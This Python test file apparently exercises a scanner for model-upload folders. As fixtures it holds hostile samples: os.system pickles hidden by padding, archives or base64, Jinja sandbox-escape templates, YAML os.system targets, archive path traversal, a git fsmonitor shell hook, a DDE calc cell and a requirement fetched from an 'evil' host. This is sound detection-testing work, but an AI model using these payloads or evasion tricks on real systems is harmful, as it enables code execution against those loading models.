"""What lies beside the weights: every kind of file is found by its bytes, named, and stops no other."""

import base64
import bz2
import dataclasses
import gzip
import io
import json
import lzma
import math
import os
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest
import torch

import mergebarrier as mb
from mergebarrier.scan import judge_task_vectors, kind_of, measure, of_pickle
from mergebarrier.scan.files import Imports, contents, pickle_worker
from mergebarrier.scan.files.templates import reaches
from model_folders import small_tensors, write_folder

SYSTEM = b"cos\nsystem\n(S'true'\ntR."
INNER = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94."
#: Two pickles, the second with the numbers of what the first remembers: a scanner that keeps these sees harmless names.
REMEMBERS = (
    b"\x80\x04\x8c\x0bcollections\x94\x8c\x0bOrderedDict\x94."
    b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93\x8c\x04true\x85R."
)


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, data in members.items():
            made.writestr(name, data)
    return out.getvalue()


def zip_link() -> bytes:
    info = zipfile.ZipInfo("l")
    info.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(info, "/etc")
    return out.getvalue()


def tarred(name: str, data: bytes, link: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as made:
        info = tarfile.TarInfo(name)
        info.type, info.linkname = (tarfile.SYMTYPE, link) if link else (tarfile.REGTYPE, "")
        info.size = 0 if link else len(data)
        made.addfile(info, io.BytesIO(data))
    return out.getvalue()


def before_marks(tar: bytes) -> bytes:
    """Return a tar file as it was written before its kind had a mark."""
    head = tar[:148] + b" " * 8 + tar[156:257]
    return head[:148] + b"%06o\0 " % sum(head) + head[156:] + bytes(255) + tar[512:]


def saved(value: object) -> bytes:
    out = io.BytesIO()
    torch.save(value, out)
    return out.getvalue()


ENCODED = base64.b64encode(INNER)
CHAT = '{"a": 1,\n"chat_template": %s}'
#: name in the folder -> bytes -> (rule, severity); None where nothing is to be said.
FILES: list[tuple[str, bytes, tuple[str, str] | None]] = [
    ("training_args.bin", INNER, ("MB7107", "critical")),
    ("optimizer.pt", saved({"step": torch.zeros(2)}), ("MB7107", "low")),
    ("optimizer_evil.pt", zipped({"archive/data.pkl": INNER}), ("MB7107", "critical")),
    ("notes.txt", SYSTEM, ("MB7107", "critical")),
    ("pushed.pkl", b"N0I1\n0" + SYSTEM, ("MB7107", "critical")),
    ("pushed.txt", b"S'" + b"a" * 5000 + b"'\n0" + SYSTEM, ("MB7107", "critical")),
    ("torch_old.bin", b"L119547037146038801333356L\n.I1001\n.(dp0\n." + SYSTEM, ("MB7107", "critical")),
    ("remembers.bin", REMEMBERS, ("MB7107", "critical")),
    ("cut.bin", b"N0" * 2047 + b"U\x20" + b"a" * 32 + b"0" + SYSTEM, ("MB7107", "critical")),
    ("cut_number.txt", b"N0" * 2046 + b"NJ    0" + SYSTEM, ("MB7107", "critical")),
    ("cut_import.txt", b"N0" * 2045 + b"N" + SYSTEM, ("MB7107", "critical")),
    ("hexadecimal.bin", b"I0x10\n0" + SYSTEM, ("MB7107", "critical")),
    ("hexadecimal.txt", b"L0x10L\n0" + SYSTEM, ("MB7107", "critical")),
    ("utf8.bin", "S'\u00e9'\n0".encode() + SYSTEM, ("MB7107", "critical")),
    ("zero.txt", b"\x80\x00I0x10\n0" + SYSTEM, ("MB7107", "critical")),
    ("trt/model.engine", b"ftrt" + bytes(40), ("MB7108", "high")),
    ("prose.txt", b"The model was trained on words. " * 200, None),
    ("use.bin", b"Use it with care, and think. " * 200, None),
    ("deep/er/hidden.dat", SYSTEM, ("MB7107", "critical")),
    ("weights.png", INNER, ("MB7107", "critical")),
    ("trigger.png", SYSTEM, ("MB7107", "critical")),
    ("trigger.safetensors", INNER, ("MB7107", "critical")),
    ("broken.pkl", b"\x80\x04\x93.", ("MB7107", "high")),
    ("unknown.pkl", b"cmy_package\nThing\n(tR.", ("MB7107", "medium")),
    ("huge.pkl", b"\x80\x04\x8d" + (2**60).to_bytes(8, "little") + b"x", ("MB7100", "high")),
    ("modeling_x.py", b"import os\n", ("MB7108", "medium")),
    ("run", b"#!/bin/sh\nls\n", ("MB7108", "medium")),
    ("helper.json", b"\x7fELF\x02\x01\x01" + bytes(40), ("MB7108", "high")),
    ("a.model", b"MZ\x90\x00" + bytes(40), ("MB7108", "high")),
    ("chat_template.jinja", b"hello\n{{ ''.__class__ }}", ("MB7109", "critical")),
    ("tokenizer_config.json", (CHAT % json.dumps("{{ x['__init__'] }}")).encode(), ("MB7109", "critical")),
    ("chat_template.json", b'{"chat_templ\\u0061te": "{{ x|attr(y) }}"}', ("MB7109", "critical")),
    ("special_tokens_map.json", b'{"chat_template": "{{ x.__a__ }}"}', ("MB7109", "critical")),
    ("processor_config.json", b'{"chat_template": [{"template": "{{ a.__b__ }}"}]}', ("MB7109", "critical")),
    ("additional_chat_templates/t.jinja", b"{% for i in range(10**9) %}x{% endfor %}", ("MB7109", "medium")),
    ("modules.json", b'[{"type": "sentence_transformers.models.Pooling"},\n{"type": "m.Mine"}]', ("MB7106", "medium")),
    ("sub/modules.json", b'[{"type": "sentence_transformers.models.Pooling"}]', None),
    ("model_index.json", b'{"unet": ["mine", "Net"], "vae": ["diffusers", "AutoencoderKL"]}', ("MB7106", "medium")),
    ("unet/config.json", b'{"auto_map": {"AutoModel": "x.Y"}, "auto_map": null}', ("MB7106", "medium")),
    ("2_Dense/config.json", b'{"activation_function": "torch.nn.modules.activation.Tanh"}', None),
    ("3_Dense/config.json", b'{"activation_function": "antigravity.__file__"}', ("MB7106", "high")),
    ("nemo/model_config.yaml", b"a:\n  _target_: os.system\n", ("MB7106", "high")),
    ("hydra.yaml", b"encoder: {_target_: torch.nn.Linear}\n", None),
    ("tools.json", b'[{"type": "function", "function": {"name": "a.b", "type": "object"}}]', None),
    ("twice.json", b'{"chat_template": "{{ x.__a__ }}", "chat_template": "{{ x }}"}', ("MB7109", "critical")),
    ("data.zip", zipped({"a.txt": b"a"}), ("MB7110", "medium")),
    ("out.zip", zipped({"../../evil": b"a"}), ("MB7110", "high")),
    ("code.zip", zipped({"x/setup.py": b"a"}), ("MB7110", "high")),
    ("linked.zip", zip_link(), ("MB7110", "high")),
    ("data.tar.gz", gzip.compress(tarred("a.txt", b"a")), ("MB7110", "medium")),
    ("torn.zip", b"PK\x03\x04torn", ("MB7100", "high")),
    ("unet/model.safetensors", b"\x08" + bytes(7) + b"{}      ", ("MB7111", "medium")),
    ("model.gguf", b"GGUF" + bytes(20), ("MB7112", "medium")),
    ("blob", bytes(range(256)), ("MB7112", "info")),
    ("bom.json", b"\xef\xbb\xbf" + CHAT.replace("%s", '"{{ x.__a__ }}"').encode(), ("MB7109", "critical")),
    ("remarks.json", b'{"chat_template": "{{ x.__a__ }}" // not JSON\n}', ("MB7109", "critical")),
    ("wide.json", '{"chat_template": "{{ x.__a__ }}"}'.encode("utf-16"), ("MB7109", "critical")),
    ("big-endian.json", '{"chat_template": "{{ x.__a__ }}"}'.encode("utf-16-be"), ("MB7109", "critical")),
    ("widest.json", '{"auto_map": "x.Y"}'.encode("utf-32"), ("MB7106", "medium")),
    ("wide.jinja", "{{ x.__a__ }} \u4e2d".encode("utf-16"), ("MB7109", "critical")),
    ("wide.yaml", "_target_: os.system".encode("utf-16"), ("MB7106", "high")),
    ("wide.svg", "<svg onload='x()'/>".encode("utf-16"), ("MB7108", "medium")),
    ("honest.csv", "a,b\n1,2\n".encode("utf-16"), None),
    ("rows.jsonl", b'{"a": "\xe2\x80\xa8"}\n{"b": {"chat_template": "{{ x.__a__ }}"}}\n', ("MB7109", "critical")),
    ("code.ndjson", b'{"a": 1}\n{"_target_": "os.system"}\n', ("MB7106", "high")),
    ("honest.jsonl", b'{"prompt": "template {", "answer": "b"}\n' * 3, None),
    ("remarks.jsonc", b'{"chat_template": "{{ x.__a__ }}" // not JSON\n}', ("MB7109", "critical")),
    ("chat_template.txt", b"{{ x.__a__ }}", ("MB7109", "critical")),
    ("t.JINJA", b"{{ x.__a__ }}", ("MB7109", "critical")),
    ("a.desktop", b"[Desktop Entry]\nExec=sh\n", ("MB7108", "medium")),
    ("a.pmml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///c'>]><PMML/>", ("MB7108", "medium")),
    (".git/config", b"[core]\n\tfsmonitor = sh -c id\n", ("MB7108", "medium")),
    ("paper.pdf", b"%PDF-1.4\n<</S/JavaScript/JS(app.alert(1))>>", ("MB7108", "medium")),
    ("honest.pdf", b"%PDF-1.4\n<</OpenAction 3 0 R>>", None),
    ("notes.md", b"<p align='center'>\n<script>x</script>", None),
    ("tags.yaml", b"%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]\n", ("MB7108", "medium")),
    ("page.html", b"<meta http-equiv='refresh' content='0;url=x'>", ("MB7108", "medium")),
    ("tabs.html", b"<a href='java\tscript:x'>x</a>", ("MB7108", "medium")),
    ("marked.pth", b"\xef\xbb\xbfimport os\n", ("MB7108", "medium")),
    ("js/package.json", b'{"name": "a", "scripts": {"postinstall": "node x.js"}}', ("MB7108", "medium")),
    ("package.json", b'{"name": "a", "scripts": {"test": "node --test"}}', None),
    ("requirements.txt", b"torch\nx @ git+https://evil/x\n", ("MB7108", "medium")),
    ("sub/requirements.txt", b"torch>=2\nnumpy\n# see https://a\n", None),
    (".vscode/tasks.json", b"{}", ("MB7108", "medium")),
    ("sub/Makefile", b"all:\n\tid\n", ("MB7108", "medium")),
    (".envrc", b"id\n", ("MB7108", "medium")),
    ("tasks.yaml", b'a: hi\ndoc_to_text: "{{ x.\\x5f_class__ }}"\nb: "{{ if .a }}b"\n', ("MB7109", "critical")),
    ("broken.yml", b"a: [\n{{ x['_' ~ '_class_' ~ '_'] }}{% if %}", ("MB7109", "critical")),
    ("prompt.toml", b'[a]\nb = "{{ x|attr(y) }}"\n', ("MB7109", "critical")),
    ("q/chat.tpl", b"{{ if .System }}{{ x.__a__ }}{{ end }}", ("MB7109", "critical")),
    ("Modelfile", b'FROM x\nTEMPLATE """{{ if .System }}{{ x.__a__ }}{{ end }}"""', ("MB7109", "critical")),
    ("q/Modelfile", b'SYSTEM no import of __a__\nTEMPLATE """{{ if .Prompt }}{{ .Prompt }}{{ end }}"""', None),
    ("honest.yaml", b"doc_to_text: '{{question.strip()}}'\nx: ${{ secrets.A }}\ny: __init__\n", None),
    ("many.yaml", b"- '{{ a }}'\n" * 3 + b"".join(b"- '{{ a%d }}'\n" % i for i in range(501)), ("MB7109", "high")),
    ("utf7.html", b"<meta charset=utf-7>+ADw-script+AD4-x", ("MB7108", "medium")),
    ("cells.csv", b"a,b\n1,\"=HYPERLINK(\"\"http://x\"\")\"\n", ("MB7108", "medium")),
    ("dde.tsv", b"a\tb\n1\t-2+3+cmd|' /C calc'!A0\n", ("MB7108", "medium")),
    ("numbers.csv", b"a,b\n-1.5,+2\n@name,= 3\n-- x,-item(s)\n", None),
    ("report.md", b"Result:\n" + ENCODED + b"\n", ("MB7107", "critical")),
    ("wrapped.json", b'{"a": "' + ENCODED[:20] + b"\\n" + ENCODED[20:] + b'"}', ("MB7107", "critical")),
    ("hashes.txt", b"gASVgASVgASVgASVgASVgASVgASVgASVgASV\n" * 5, None),
    ("picture.png", b"\x89PNG\r\n\x1a\n" + bytes(20), None),
    ("vocab.txt", b"city\nname\nin\nof\n", None),
    ("README.md", b"# A model with __dunder__ words\n", None),
    ("honest.jinja", b"{% generation %}{{ messages[0]['content'] }}{% endgeneration %}{% break %}", None),
]  # fmt: skip


@pytest.fixture(scope="module")
def found(tmp_path_factory) -> dict[str, list[dict]]:
    """Every file in one folder, scanned once: what was said, by file."""
    folder = write_folder(tmp_path_factory.mktemp("up") / "upload", small_tensors())
    for name, data, _ in FILES:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    os.mkfifo(folder / "pipe")
    (folder / "out").symlink_to("/etc/hostname")
    (folder / "gone").symlink_to("nowhere")
    (folder / "twin.json").symlink_to("config.json")
    report = mb.scan([folder], fail_on="critical")
    assert report.exit_code == 2
    said: dict[str, list[dict]] = {}
    for one in report.to_dict()["findings"]:
        said.setdefault(one["file"], []).append(one)
    return said


@pytest.mark.parametrize(("name", "data", "says"), FILES, ids=[name for name, _, _ in FILES])
def test_every_kind_of_file_is_judged(found, name: str, data: bytes, says: tuple[str, str] | None) -> None:
    assert [(one["rule"], one["severity"]) for one in found.get(name, [])] == ([says] if says else [])


CRITICAL = ("MB7107", "critical")
IN_ARCHIVES = {
    "a.keras": (zipped({"config.json": b'{"class_name": "Lambda", "config": {}}'}), ("MB7106", "high")),
    "b.zip": (zipped({"x/chat_template.jinja": b"{{ x.__a__ }}"}), ("MB7109", "critical")),
    "c.gz": (gzip.compress(zipped({"model_config.yaml": b"_target_: os.system\n"})), ("MB7106", "high")),
    "h.zip": (zipped({"a.json": '{"chat_template": "{{ x.__a__ }}"}'.encode("utf-16")}), ("MB7109", "critical")),
    "i.zip": (zipped({"a.jsonl": b'{}\n{"chat_template": "{{ x.__a__ }}"}'}), ("MB7109", "critical")),
    "f.joblib": (zlib.compress(INNER), ("MB7107", "critical")),
    "g.joblib": (lzma.compress(INNER, lzma.FORMAT_ALONE), ("MB7107", "critical")),
    "j.tar": (tarred("weights.ckpt", b"\x80\x02I1\n.\x80\x02M\xe9\x03." + INNER), ("MB7107", "critical")),
    "k.zip": (zipped({"vocab": b"N0" + SYSTEM, "b": b"B\x00\x02\x00\x00" + bytes(512) + b"0" + SYSTEM}), CRITICAL),
    "l.zip": (zipped({"b": b"B\x00\x02\x00\x00" + bytes(512) + b"0" + SYSTEM}), CRITICAL),
    "m.tar": (tarred("../../.bashrc", b"id"), ("MB7110", "high")),
    "n.tar": (tarred("x", b"", link="/etc"), ("MB7110", "high")),
    "o.zip": (zipped({"n.tar": tarred("x", b"", link="../..")}), ("MB7110", "high")),
    "p.data": (zlib.compress(INNER, 3), CRITICAL),
    "q.tar": (before_marks(tarred("x", INNER)), CRITICAL),
    "r.tar": (tarred("x", b"") + zipped({"x": INNER}), CRITICAL),
    "s.bz2": (bz2.compress(b"words") + zipped({"x": INNER}), CRITICAL),
    "t.dat2": (b"junk\0" + zipped({"x": INNER}), CRITICAL),
    "u.txt": (b"words\n" + zipped({"x": INNER}), CRITICAL),
    "v.bin": (b"BZh\x00\x00" + bytes(0x685A) + b"0" + SYSTEM, CRITICAL),
    "w.gz": (gzip.compress(INNER)[:-8], ("MB7100", "high")),
    "x.gz": (gzip.compress(INNER)[:-8] + bytes(8), ("MB7100", "high")),
    "y.br": (b"\x0b\x02\x80words\x03", ("MB7100", "high")),
    "z.data": (b"ZF0x10".ljust(21) + zlib.compress(INNER), ("MB7100", "high")),
    "d.tar.zst": (b"\x28\xb5\x2f\xfd" + bytes(20), ("MB7100", "high")),
    "f.tar": (tarred("x", b"") + b"\x01" * 512 + tarred("x", INNER), ("MB7100", "high")),
    "ppo.zip": (zipped({"data": b'{":serialized:": "' + ENCODED + b'"}'}), CRITICAL),
    "1.zip": (zipped({"a/Modelfile": b"{{ x.__a__ }}", "chat_template.txt": b"a"}), ("MB7109", "critical")),
    "e.zip": (zipped({"inner.7z": b"7z\xbc\xaf\x27\x1c"}), ("MB7100", "high")),
}


def test_what_lies_in_archives_is_judged_as_what_lies_beside(tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "upload", small_tensors())
    for name, (data, _) in IN_ARCHIVES.items():
        (folder / name).write_bytes(data)
    said = {(one.file, one.rule, one.severity) for one in mb.scan([folder]).findings}
    assert said >= {(name, *says) for name, (_, says) in IN_ARCHIVES.items()}, said


def _gguf(template: str) -> bytes:
    words = [len(word).to_bytes(8, "little") + word for word in (b"tokenizer.chat_template", template.encode())]
    return b"GGUF\x03\x00\x00\x00" + bytes(8) + b"\x01" + bytes(7) + words[0] + b"\x08\x00\x00\x00" + words[1]


@pytest.mark.parametrize(
    ("name", "data", "says"),
    [
        ("m.gguf", _gguf("{{ x.__class__ }}"), ("MB7109", "critical")),
        ("m.gguf", _gguf("{{ messages[0].content }}"), None),
        ("m.h5", b'\x89HDF\r\n\x1a\n{"class_name": "Lambda"}', ("MB7106", "high")),
        ("m.onnx", b"\x08\x07\n\x08location\x12\x0d../../secrets", ("MB7106", "high")),
        ("m.onnx", b"\x08\x07\n\x08location\x12\x07m.data2", None),
        ("saved_model.pb", b"\x08\x01\x0a\x04read\x12\x08ReadFile\x1a", ("MB7106", "high")),
    ],
)
def test_weights_of_another_format_say_more_than_numbers(tmp_path: Path, name: str, data: bytes, says) -> None:
    folder = write_folder(tmp_path / "upload", small_tensors())
    (folder / name).write_bytes(data)
    said = {(one.rule, one.severity) for one in mb.scan([folder]).findings}
    assert said == {("MB7112", "medium"), *([says] if says else [])}


def test_a_template_behind_bytes_that_are_no_text_is_found_too(tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "upload", small_tensors())
    (folder / "a.json").write_bytes(b'{"b": "\xff", "chat_template": "{{ x.__a__ }}"}')
    assert [(one.rule, one.severity) for one in mb.scan([folder]).findings] == [
        ("MB7109", "critical"), ("MB7112", "info"),
    ]  # fmt: skip


def test_long_files_of_lines_are_data_and_their_beginning_is_looked_at(tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "upload", small_tensors())
    line = b'{"text": "' + b"a" * 2**20 + b'"}\n'
    (folder / "a.jsonl").write_bytes(line * 17)
    assert [(one.rule, one.severity) for one in mb.scan([folder]).findings] == [("MB7112", "info")]


def test_what_is_no_file_is_named_and_a_link_inside_is_followed(found) -> None:
    assert [(found[name][0]["rule"], found[name][0]["severity"]) for name in ("pipe", "out", "gone")] == [
        ("MB7113", "high"), ("MB7113", "critical"), ("MB7113", "high"),
    ]  # fmt: skip
    assert "twin.json" not in found and "config.json" not in found and "model.safetensors" not in found


def test_a_template_is_found_on_its_line(found) -> None:
    assert found["rows.jsonl"][0]["line"] == 2
    assert found["chat_template.jinja"][0]["line"] == 2 and found["tokenizer_config.json"][0]["line"] == 2


def test_without_picklescan_a_pickle_was_not_looked_at(tmp_path: Path, run_cli, monkeypatch) -> None:
    folder = write_folder(tmp_path / "upload", small_tensors())
    (folder / "training_args.bin").write_bytes(INNER)
    monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
    ran = run_cli("scan", folder, "--json")
    assert ran.exit_code == 2 and [one["rule"] for one in ran.json["findings"]] == ["MB7100"]
    assert "mergebarrier[scan]" in ran.json["findings"][0]["message"]


def test_what_is_too_long_or_too_slow_to_be_looked_into_is_said(tmp_path: Path) -> None:
    scanner = pytest.importorskip("picklescan.scanner")
    long = tarred("x.pkl", b"\x80\x04" + bytes(2000))
    for data in (long, zipped({"x": long}), gzip.compress(long)):
        with pytest.raises(ValueError, match="unpacks to more"):
            pickle_worker._look_inside(scanner, io.BytesIO(data), "", pickle_worker.Seen([], [], [], []), [1000, 0])
    numbers = zipped({"archive/data/0": b"\x80\x04" + bytes(2000), "w.safetensors": b"\x80\x0c" + bytes(2000)})
    pickle_worker._look_inside(scanner, io.BytesIO(numbers), "", seen := pickle_worker.Seen([], [], [], []), [1000, 0])
    assert seen == ([], [], [], [])
    lost = of_pickle("m", "a.txt", Imports(looked=False, error="the scanner ran out of its time"), sure=False)
    assert lost is not None and lost.rule == "MB7100"


@pytest.mark.slow
def test_a_file_that_exhausts_the_scanner_of_pickles_costs_only_its_own_line(tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "upload", small_tensors())
    (folder / "a.pkl").write_bytes(b"\x80\x04" + b"N" * 60_000_000)
    (folder / "b.pkl").write_bytes(INNER)
    said = {one.file: one for one in mb.scan([folder]).findings}
    assert said["a.pkl"].severity == "high" and said["b.pkl"].rule in ("MB7100", "MB7107")


def test_a_bomb_is_known_by_its_table() -> None:
    bomb = bytearray(zipped({"a": b"0" * 100_000}, zipfile.ZIP_DEFLATED))
    at = bomb.rfind(b"PK\x01\x02")
    bomb[at + 24 : at + 28] = (2**31).to_bytes(4, "little")
    assert contents(io.BytesIO(bytes(bomb)), len(bomb)).bomb


@pytest.mark.parametrize(
    ("template", "severity"),
    [
        ("{{ ('__cl' ~ 'ass__') }}", "critical"),
        ("{{ x | map(attribute='__class__') | list }}", "critical"),
        ("{{ __import__ }}", "critical"),
        ("{% include 'x' %}", "high"),
        ("{% if %}{{ x.__class__ }}", "critical"),
        ("{% if %}", "medium"),
        ("{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}", "medium"),
        ("{{ range(1000000) }}", "medium"),
        ("{% set n = 99999999 %}{{ range(n) }}", "medium"),
        ("{{ 'a' * 99999999 }}", "medium"),
        ("{{ '%0999999d' % 1 }}", "medium"),
        ("{% for a in range(999) %}{% for b in range(999) %}x{% endfor %}{% endfor %}", "medium"),
        ("{% macro f(n) %}{{ f(n) }}{{ f(n) }}{% endmacro %}{{ f(1) }}", "medium"),
        ("a" * (1 << 19), "high"),
    ],
)
def test_a_template_cannot_hide_what_it_reaches_for(template: str, severity: str) -> None:
    assert severity in [one.severity for one in reaches(template)]


@pytest.mark.parametrize(
    "template",
    [
        "{% set a='_' %}{% set b='_class_' %}{{ x[a ~ b ~ a] }}",
        "{% set c = ['_', 'class']|join %}{{ x[c] }}",
        "{% set ns = namespace(c='_') %}{% set ns.c = ns.c * 2 ~ 'class' %}{{ x[ns.c] }}",
        "{% for k in ['%c%cclass' % (95, 95)] %}{{ x[k] }}{% endfor %}",
        "{% macro f() %}_{% endmacro %}{{ x[f() ~ 'a'] }}",
        "{% macro f(k) %}{{ x[k] }}{% endmacro %}{{ f('_' ~ '_class') }}",
        "{% set c %}{{ '_' }}_class{% endset %}{{ x[c] }}",
        "{% with k = '_' ~ '_class' %}{{ x[k] }}{% endwith %}",
        "{% set d = {'k': '_' ~ '_c'} %}{{ x[d.k] }}",
        "{% set k = y or ('A'|lower) %}{{ x[k] }}",
        "{% set k = cycler('_').next() * 2 %}{{ x[k] }}",
        "{% set k = 'a b'.split(' ') %}{{ x[k|first] }}",
        "{{ x['ssalc'|reverse] }}",
        "{{ x[y['ssalc'[::-1]]] }}",
        "{% for k in dict(__class__=1) %}{{ x[k] }}{% endfor %}",
        "{{ '__ssalc__'[::-1] }}",
        "{{ [x]|sum(attribute='__class__', start=0) }}",
        "{{ [x]|map(attribute=k)|list }}",
        "{{ [x]|map('attr', 'y')|list }}",
        "{{ [x]|unique(attribute='__class__.a')|list }}",
        "{{ x|selectattr(**kw) }}",
        "{{ f.gi_frame.f_globals }}",
        "{{ x['cr_frame'] }}",
        "{% set p = '{0.' ~ 'a}' %}{{ p.format(x) }}",
        "{{ '{0.__class__}'.format(x) }}",
    ],
)
def test_what_a_template_puts_together_names_nothing_unseen(template: str) -> None:
    assert "critical" in [one.severity for one in reaches(template)]


@pytest.mark.parametrize(
    "template",
    [
        "{% for key in ['role', 'content'] %}{{ message[key] }}{% endfor %}{{ messages[1:][loop.index0 - 1] }}",
        "{% set last = messages|length - 1 %}{{ messages[last]['content']|trim ~ '<|im_end|>' }}",
        "{% for key, value in tool.items() %}{{ key ~ ': ' ~ tool[key] }}{% endfor %}",
        "{{ messages|selectattr('role', 'equalto', 'user')|map(attribute='content')|join(', ') }}",
        "{% macro type(s) %}{{ type(s.items) }}{% for k in s %}{{ type(k) }}{% endfor %}{% endmacro %}",
        "{{ '{}'.format(1) }}",
        "{% set ns = namespace(found=false) %}{% set ns.found = true %}{{ messages[range(5)[1]] }}",
        "{% set content = message['content'].split('</think>')[-1].lstrip() %}{{ content }}",
    ],
)
def test_what_honest_templates_do_is_no_finding(template: str) -> None:
    assert reaches(template) == ()


def test_the_kind_is_that_of_the_bytes_before_that_of_the_name() -> None:
    assert kind_of("config.json", INNER) == "pickle" and kind_of("weights.bin", b'{"a": 1}') == "text"
    assert kind_of("x.txt", "é".encode()[:1]) == "text" and kind_of("x.txt", b"a\x00") == "unknown"


def test_one_upload_of_absurd_weights_does_not_blind_the_pool() -> None:
    make = torch.Generator().manual_seed(0)
    base = torch.randn(16, 16, generator=make)
    honest = [base + 0.01 * torch.randn(16, 16, generator=make) for _ in range(4)]
    absurd = torch.full((16, 16), 3e38)
    statistics = measure([("w", base, [*honest, absurd])], 5)
    assert all(math.isfinite(value) for one in statistics for value in dataclasses.astuple(one))
    found = judge_task_vectors(["a", "b", "c", "d", "absurd"], statistics)
    assert ("MB7201", "absurd") in {(one.rule, one.model) for one in found}
